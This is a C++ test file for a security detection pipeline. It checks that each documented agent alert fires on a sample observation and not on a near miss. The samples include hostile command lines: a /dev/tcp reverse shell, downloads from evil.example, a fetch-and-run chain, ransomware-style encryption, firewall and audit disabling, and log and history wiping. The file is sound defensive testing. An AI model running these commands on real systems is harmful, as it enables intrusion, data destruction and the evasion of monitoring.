// Every alert that the product documents for agents, raised from observations by the pack `product`, and a near
// miss of each that does not raise it.
#include <gmock/gmock.h>

#include <functional>
#include <map>
#include <set>

#include "tests/pipeline_core/content/alert_case.h"
#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;

/// Observations of one device in time order; those of one time travel in one message.
using Story = std::vector<Observation>;

struct Stories {
  explicit Stories(TextTable& table) : texts(table) {}
  TextTable& texts;
  std::vector<AlertCase> cases;

  Story command(std::string_view line, std::string_view image = "") { return {exec(texts, kStart, line, image)}; }
  void commands(std::string_view alert, std::string_view fires, std::string_view misses) {
    cases.push_back({std::string(alert), command(fires), command(misses)});
  }
  Story file(FileOperation operation) { return {at(kStart, FileRecord{texts.intern("/etc/edge.conf"), operation})}; }
  Story plug(bool usb, bool connected) {
    return {at(kStart, PeripheralRecord{texts.intern("port 1"), connected, usb})};
  }
  Story sign_in(LoginOperation operation, std::string_view source) {
    return {login(texts, kStart, operation, source)};
  }
  Story guesses(int failures, bool success) {
    Story story;
    for (int i = 0; i < failures; ++i) {
      story.push_back(login(texts, kStart + Duration::seconds(i), LoginOperation::kLoginFailed, "203.0.113.8"));
    }
    if (success) {
      story.push_back(login(texts, kStart + Duration::minutes(2), LoginOperation::kLogin, "203.0.113.8"));
    }
    return story;
  }
  Story lookup(std::string_view name) { return {at(kStart, DnsRecord{texts.intern(name), false})}; }
  Story error(ConfigurationErrorType type) {
    return {at(kStart, ConfigurationErrorRecord{texts.intern("a"), texts.intern("b"), texts.intern("c"), type})};
  }
  using Users = std::vector<std::pair<std::string, std::string>>;
  Story lists(const Users& before, const Users& after) {
    Story story;
    const auto add = [&](Time time, const Users& users) {
      for (const auto& [name, groups] : users) {
        story.push_back(at(time, LocalUserRecord{texts.intern(name), texts.intern(groups), {}, 0}));
      }
    };
    add(kStart, before);
    add(kStart + Duration::hours(13), after);
    return story;
  }

  void add_commands();
  void add_others();
};

void Stories::add_commands() {
  commands("Binary Command Line", "/lib/ld-linux-armhf.so.3 /tmp/payload", "/lib/ld-linux-armhf.so.3 --list /bin/ls");
  commands("Disable firewall", "iptables -F", "iptables -L");
  commands("Port forwarding detection", "ssh -N -R 2222:localhost:22 u@203.0.113.9", "ssh ops@203.0.113.9");
  commands("Possible attempt to disable Auditd logging detected", "auditctl -e 0", "auditctl -l");
  commands("Reverse shells", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "bash -i");
  commands("Behavior similar to ransomware detected",
           "find /data -type f -exec openssl enc -aes-256-cbc -in {} -out {}.enc", "openssl version");
  commands("Crypto coin miner image", "/tmp/xmrig -o pool:3333", "/opt/examiner -o pool:3333");
  commands("Behavior similar to common Linux bots detected", "/bin/busybox ECCHI", "/bin/busybox ls");
  commands("Behavior similar to Fairware ransomware detected", "rm -rf /var/www/*", "rm -rf /var/lib/edge/spool");
  commands("Crypto coin miner container image detected", "docker run -d monero/xmrig", "docker run -d alpine");
  commands("Detected suspicious use of the nohup command", "nohup /tmp/k", "nohup /opt/edge/bin/k");
  commands("Detected suspicious use of the useradd command", "useradd -o -u 0 svc", "useradd operator");
  commands("Exposed Docker daemon by TCP socket", "dockerd -H tcp://0.0.0.0:2375", "dockerd -H unix:///run/d.sock");
  commands("Detected file download from a malicious source", "wget http://evil.example/x -O /opt/x",
           "wget http://good.example/x -O /opt/x");
  commands("htaccess file access detected", "vi /var/www/.htaccess", "vi /var/www/index.html");
  commands("Known attack tool", "/usr/bin/nmap -sS 10.0.0.0/24", "/usr/bin/nmapper 10.0.0.0/24");
  commands("Local host reconnaissance detected", "find / -perm -4000", "find /mnt -name x");
  commands("Mismatch between script interpreter and file extension", "python3 /tmp/notes.sh", "python3 /tmp/notes.py");
  commands("Possible backdoor detected", "wget http://203.0.113.77/b -O /opt/b", "wget http://192.168.1.7/b -O /opt/b");
  commands("Possible loss of data detected", "curl -T /tmp/d.tgz https://files.example/u",
           "curl -T /var/backups/d.tgz https://files.example/u");
  commands("Privileged container detected", "docker run --privileged alpine", "docker run alpine");
  commands("Removal of system logs files detected", "rm -f /var/log/auth.log", "tail /var/log/auth.log");
  commands("Space after filename", "./invoice.pdf\\ --quiet", "./invoice.pdf --quiet");
  cases.back().fires = command("invoice", "/tmp/invoice.pdf ");
  commands("Tools commonly used for malicious credentials access detected", "cat /etc/shadow", "cat /etc/edge.conf");
  commands("Suspicious compilation detected", "gcc /tmp/x.c -o /tmp/x", "gcc src/x.c -o build/x");
  commands("Suspicious file download followed by file run activity", "sh -c wget http://a.example/i.sh; chmod 777 i.sh; ./i.sh",
           "wget http://a.example/i.sh");
  commands("Bash history cleared", "rm -f /root/.bash_history", "cat /root/.bash_history");
  commands("Potential overriding of common files", "cp /tmp/x /bin/ps", "cp /bin/ps /tmp/x");
}

void Stories::add_others() {
  const auto add = [this](std::string_view alert, Story fires, Story misses) {
    cases.push_back({std::string(alert), std::move(fires), std::move(misses)});
  };
  Story shell = command("sh -c id; uname -a");
  std::get<ProcessRecord>(shell[0].record).user_id = 33;
  add("Web shell", shell, command("sh -c id; uname -a"));
  add("Successful local login", sign_in(LoginOperation::kLogin, ""), sign_in(LoginOperation::kLogout, ""));
  add("Failed local login", sign_in(LoginOperation::kLoginFailed, ""),
      sign_in(LoginOperation::kLoginFailed, "203.0.113.1"));
  add("New USB Connection", plug(true, true), plug(true, false));
  add("USB Disconnection", plug(true, false), plug(true, true));
  add("New Ethernet Connection", plug(false, true), plug(false, false));
  add("Ethernet Disconnection", plug(false, false), plug(false, true));
  add("New File Created", file(FileOperation::kCreated), file(FileOperation::kModified));
  add("File Modified", file(FileOperation::kModified), file(FileOperation::kDeleted));
  add("File Deleted", file(FileOperation::kDeleted), file(FileOperation::kCreated));
  add("Suspicious IP address communication", {flow(kStart, "198.51.100.66", 443)}, {flow(kStart, "198.51.100.67", 443)});
  add("Malicious Domain Name Request", lookup("cdn.evil.example"), lookup("notevil.example"));
  add("Successful Bruteforce attempt", guesses(6, true), guesses(6, false));
  add("Failed Bruteforce attempt", guesses(30, false), guesses(29, false));
  add("IoT agent attempted and failed to parse the module twin configuration",
      error(ConfigurationErrorType::kTypeMismatch), error(ConfigurationErrorType::kNotOptimal));
  add("Local user added to one or more groups", lists({{"root", "root"}, {"ops", "adm"}}, {{"root", "root"}, {"ops", "adm;sudo"}}),
      lists({{"root", "root"}, {"ops", "adm"}}, {{"root", "root"}, {"ops", "adm"}}));
  add("Local user deleted from one or more groups", lists({{"root", "root"}, {"ops", "adm;sudo"}}, {{"root", "root"}, {"ops", "adm"}}),
      lists({{"root", "root"}, {"ops", "adm"}}, {{"root", "root"}}));
  add("Local user deletion detected", lists({{"root", "root"}, {"ops", "adm"}}, {{"root", "root"}}),
      lists({{"root", "root"}}, {{"root", "root"}, {"ops", "adm"}}));
  const Observation beat = at(kStart, HeartbeatRecord{});
  add("Device silent", {beat}, {beat, at(kStart + Duration::hours(71), HeartbeatRecord{})});
}

/// Device 2i lives the story of case i, device 2i + 1 its near miss.
struct Played : Bench {
  Played() : stories(texts) {
    add_own_rules(builder);
    builder.add_rule(read_text(PICKET_SOURCE_DIR "/pipeline_core/content/classic/bruteforce.yml"), "bruteforce.yml");
    builder.choose(PackSet::none().with(Pack::kProduct));
    builder.indicators().add(*read_value("evil.example"), {.source = "feed"});
    builder.indicators().add(*read_value("198.51.100.66"), {.source = "feed"});
    stories.add_commands();
    stories.add_others();
    start(static_cast<std::uint32_t>(stories.cases.size() * 2), Duration::days(30));
    EXPECT_TRUE(builder.diagnostics().empty());
    std::map<Time, std::map<std::uint32_t, std::vector<Observation>>> messages;
    for (std::uint32_t i = 0; i < stories.cases.size(); ++i) {
      for (const Observation& o : stories.cases[i].fires) messages[o.last_time][2 * i].push_back(o);
      for (const Observation& o : stories.cases[i].misses) messages[o.last_time][2 * i + 1].push_back(o);
    }
    for (const auto& [time, devices] : messages) {
      for (const auto& [device, observations] : devices) send(time, observations, device);
    }
    advance(kStart + Duration::hours(80));
  }
  std::set<std::string> alerts_of(std::uint32_t device) const {
    std::set<std::string> names;
    for (const StoredFinding& f : sink->findings) {
      if (f.device == device) names.insert(f.alert);
    }
    return names;
  }
  Stories stories;
};

TEST(DocumentedAlerts, are_raised_by_their_story_and_not_by_its_near_miss) {
  const Played played;
  for (std::uint32_t i = 0; i < played.stories.cases.size(); ++i) {
    const std::string& alert = played.stories.cases[i].alert;
    EXPECT_TRUE(played.alerts_of(2 * i).contains(alert)) << alert;
    EXPECT_FALSE(played.alerts_of(2 * i + 1).contains(alert)) << alert;
  }
}

TEST(DocumentedAlerts, have_a_story_each) {
  TextTable texts;
  Stories stories(texts);
  stories.add_commands();
  stories.add_others();
  std::set<std::string> told;
  for (const AlertCase& c : stories.cases) EXPECT_TRUE(told.insert(c.alert).second) << c.alert;
  const AlertCatalogue catalogue;
  for (std::uint32_t i = 0; i < catalogue.size(); ++i) {
    const bool of_agents = catalogue[i].origin == AlertOrigin::kMicroAgent || catalogue[i].origin == AlertOrigin::kClassicAgent;
    EXPECT_EQ(told.contains(catalogue[i].name), of_agents) << catalogue[i].name;
  }
}

TEST(DocumentedAlerts, are_all_that_the_products_pack_raises) {
  const Played played;
  for (const StoredFinding& f : played.sink->findings) {
    const auto alert = played.content->find_alert(f.alert);
    ASSERT_TRUE(alert);
    EXPECT_TRUE(played.content->alert(*alert).is_documented()) << f.alert;
    EXPECT_EQ(played.content->pack_of(f.rule), Pack::kProduct) << f.alert;
  }
}

}  // namespace
}  // namespace picket
